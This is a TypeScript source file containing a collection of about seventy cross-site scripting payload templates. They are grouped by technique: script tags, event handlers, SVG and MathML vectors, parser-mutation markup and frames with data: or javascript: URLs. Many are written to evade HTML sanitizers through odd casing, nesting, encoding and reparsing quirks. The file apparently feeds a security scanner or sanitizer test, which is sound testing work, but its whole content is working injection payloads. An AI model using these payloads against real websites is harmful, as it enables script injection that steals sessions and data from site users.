import { inBase64, inReferences, inText, type PayloadClass } from "../PayloadClass.ts"

/** Elements and handlers that run a script by themselves, or once somebody touches them. */
export const scripts: ReadonlyArray<PayloadClass> = [
  {
    name: "script elements",
    place: inText,
    effect: "script",
    payloads: [
      call => `<script>${call}</script>`,
      call => `<ScRiPt>${call}</sCrIpT >`,
      call => `<SCRIPT TYPE=module>${call}</SCRIPT>`,
      call => `<script\n\t>${call}</script\n>`,
      call => `<script/anything>${call}</script/>`,
      call => `<<script>${call}//<</script>`,
      call => `<scr<script>ipt>${call}</scr</script>ipt><script>${call}</script>`,
      call => `<script x=">" y='>'>${call}</script>`,
      call => `<script>/*<!-- <script>*/${call}</script>`,
      call => `<script type="text/javascript;version=1.8" nonce="x">${call}</script><script>${call}`,
      call => `<script src="data:text/javascript,${encodeURIComponent(call)}"></script>`,
      call => `<script src="data:;base64,${inBase64(call)}"></script>`
    ]
  },
  {
    name: "handlers of loading",
    place: inText,
    effect: "script",
    payloads: [
      call => `<img src=x: onerror=${call}>`,
      call => `<img src=x: onerror="${inReferences(call)}">`,
      call => `<img/src="x:"/onerror=${call}>`,
      call => `<img src=\`x:\`\fonerror=${call}>`,
      call => `<image src=x: onerror=${call}>`,
      call => `<IMG SRC=x: OnErRoR\n=\n${call}//>`,
      call => `<video><source onerror=${call} src=x:></video>`,
      call => `<audio src=x: onerror=${call}></audio>`,
      call => `<body onload=${call}>`,
      call => `<body onpageshow=${call}>`,
      call => `<style onload=${call}></style>`,
      call => `<iframe onload=${call}></iframe>`,
      call => `<link rel=stylesheet href=x: onerror=${call}>`,
      call => `<object data=x: onerror=${call}></object>`,
      call => `<input type=image src=x: onerror=${call}>`
    ]
  },
  {
    name: "handlers of focus, pointer and keys",
    place: inText,
    effect: "script",
    payloads: [
      call => `<input autofocus onfocus=${call}>`,
      call => `<b tabindex=0 autofocus onfocusin=${call}>x</b>`,
      call => `<select autofocus onfocus=${call}><option>x</select>`,
      call => `<keygen autofocus onfocus=${call}>`,
      call => `<div contenteditable onfocus=${call}>x</div>`,
      call => `<b onmouseover=${call} style=position:fixed;inset:0>x</b>`,
      call => `<b onpointerenter=${call}>x</b>`,
      call => `<xss onclick=${call}>x</xss>`,
      call => `<b accesskey=x onclick=${call}>x</b>`,
      call => `<label onclick=${call} for=report>x</label>`
    ]
  },
  {
    name: "handlers of animation, toggling and popovers",
    place: inText,
    effect: "script",
    payloads: [
      call => `<details open ontoggle=${call}><summary>x</summary></details>`,
      call => `<button popovertarget=p>x</button><b id=p popover onbeforetoggle=${call}>x</b>`,
      call =>
        `<button popovertarget=q popovertargetaction=show>x</button><b id=q popover ontoggle=${call}>x</b>`,
      call =>
        `<button commandfor=d command=show-modal>x</button><dialog id=d onbeforetoggle=${call}>x</dialog>`,
      call => `<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=${call}>x</b>`,
      call => `<style>@keyframes k{}</style><xss style=animation-name:k onwebkitanimationend=${call}>x</xss>`,
      call => `<b style="transition:opacity 1ms" ontransitionend=${call}>x</b>`,
      call => `<marquee onstart=${call} width=1 loop=1>x</marquee>`,
      call => `<b style=content-visibility:auto oncontentvisibilityautostatechange=${call}>x</b>`,
      call =>
        `<div onscroll=${call} style=overflow:scroll;height:9px>x<p style=height:99px autofocus tabindex=0>x`
    ]
  },
  {
    name: "SVG and MathML",
    place: inText,
    effect: "script",
    payloads: [
      call => `<svg onload=${call}>`,
      call => `<svg/onload=${call}//`,
      call => `<svg><script>${inReferences(call)}</script></svg>`,
      call => `<svg><script href="data:,${encodeURIComponent(call)}"/></svg>`,
      call => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
      call => `<svg><set onbegin=${call} attributeName=x to=1>`,
      call => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
      call =>
        `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=20>x</text></a></svg>`,
      call => `<svg><image href=x: onerror=${call}></svg>`,
      call => `<svg><foreignObject><img src=x: onerror=${call}></foreignObject></svg>`,
      call => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"></svg>`,
      call => `<math><maction actiontype="statusline" href="javascript:${call}">x</maction></math>`,
      call => `<math href="javascript:${call}">x</math>`
    ]
  },
  {
    name: "markup that changes when it is parsed again",
    place: inText,
    effect: "script",
    payloads: [
      call =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${call}&gt;">`,
      call => `<svg></p><style><a id="</style><img src=x: onerror=${call}>">`,
      call => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${call}>`,
      call => `<noscript><p title="</noscript><img src=x: onerror=${call}>">`,
      call => `<svg><title><img src=x: onerror=${call}></title></svg>`,
      call => `<table><td><svg><desc></td></table><img src=x: onerror=${call}>`,
      call => `<select><template></select><img src=x: onerror=${call}></template>`,
      call => `<listing>&lt;img src=x: onerror=${call}&gt;</listing>`,
      call => `<xmp><p title="</xmp><img src=x: onerror=${call}>">`,
      call => `<template shadowrootmode=open><img src=x: onerror=${call}></template>`
    ]
  },
  {
    name: "frames and documents within",
    place: inText,
    effect: "script",
    payloads: [
      call => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
      call => `<iframe srcdoc="${inReferences(`<img src=x: onerror=${call}>`)}"></iframe>`,
      call => `<iframe src="javascript:${call}"></iframe>`,
      call => `<iframe src="data:text/html,<script>${call}</script>"></iframe>`,
      call => `<object data="data:text/html;base64,${inBase64(`<script>${call}</script>`)}"></object>`,
      call => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
      call => `<object type=text/html data="javascript:${call}"></object>`,
      call => `<frameset onload=${call}><frame src="javascript:${call}"></frameset>`,
      call => `<portal src="javascript:${call}"></portal>`,
      call => `<fencedframe src="data:text/html,<script>${call}</script>"></fencedframe>`,
      call => `<isindex action="javascript:${call}" type=submit value=x>`
    ]
  }
]
